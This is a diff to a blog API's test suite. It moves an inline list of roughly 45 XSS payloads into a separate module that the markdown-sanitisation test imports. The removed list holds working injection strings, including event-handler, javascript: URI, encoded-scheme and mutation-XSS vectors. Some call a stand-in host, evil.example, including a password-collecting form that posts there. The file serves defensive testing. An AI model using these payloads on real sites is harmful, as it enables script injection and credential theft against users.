@@ -14,6 +14,7 @@ import {
   resetData,
   sessionFor,
 } from './helpers';
+import { XSS_PAYLOADS } from './xss-payloads';
 
 let app: App;
 beforeAll(async () => {
@@ -473,56 +474,6 @@ describe('GET /api/v1/me/blogs', () => {
 });
 
 describe('rendering markdown to safe HTML', () => {
-  // Known ways to get script into a page through markdown and HTML.
-  const PAYLOADS = [
-    '<script>alert(1)</script>',
-    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-    '<scr<script>ipt>alert(1)</scr</script>ipt>',
-    '<img src=x onerror=alert(1)>',
-    '<img src="x" ONERROR="alert(1)">',
-    '<img src=x onerror\n=alert(1)>',
-    '<svg onload=alert(1)>',
-    '<svg><script>alert(1)</script></svg>',
-    '<body onload=alert(1)>',
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href="  javascript:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-    '<a href="&#x6A;avascript:alert(1)">x</a>',
-    '<a href="jav&#x09;ascript:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-    '[click](javascript:alert(1))',
-    '[click](JAVASCRIPT:alert(1))',
-    '[click](<javascript:alert(1)>)',
-    '[click](javascript&#58;alert(1))',
-    '![img](javascript:alert(1))',
-    '![img](data:image/png;base64,iVBORw0KGgo=)',
-    '[ref]\n\n[ref]: javascript:alert(1)',
-    '<iframe src="https://evil.example"></iframe>',
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
-    '<p style="background:url(javascript:alert(1))">styled</p>',
-    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">cover</div>',
-    '<style>body{display:none}</style>',
-    '<!--<script>alert(1)</script>-->',
-    '<!-- --!><script>alert(1)</script> -->',
-    '<object data="javascript:alert(1)"></object>',
-    '<embed src="javascript:alert(1)">',
-    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-    '<details open ontoggle=alert(1)>',
-    '<a href="https://ok.example" onclick="alert(1)" target="_blank">ok</a>',
-    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    '<base href="javascript:alert(1)//">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    '<textarea><script>alert(1)</script></textarea>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '`<script>alert(1)</script>`',
-    '<h2 id="location" onmouseover="alert(1)">clobber</h2>',
-  ];
-
   /** Every attribute value in the HTML, entities decoded as a browser would. */
   function attributes(html: string): { name: string; value: string }[] {
     const decode = (v: string) =>
@@ -545,10 +496,10 @@ describe('rendering markdown to safe HTML', () => {
     );
   }
 
-  it(`stores and serves none of ${PAYLOADS.length} known XSS payloads as live markup`, async () => {
-    expect(PAYLOADS.length).toBeGreaterThanOrEqual(25);
+  it(`stores and serves none of ${XSS_PAYLOADS.length} known XSS payloads as live markup`, async () => {
+    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(25);
     const { headers } = await writer();
-    for (const payload of PAYLOADS) {
+    for (const payload of XSS_PAYLOADS) {
       const blog = await created(headers, {
         title: 'XSS',
         content: `Before\n\n${payload}\n\nAfter`,
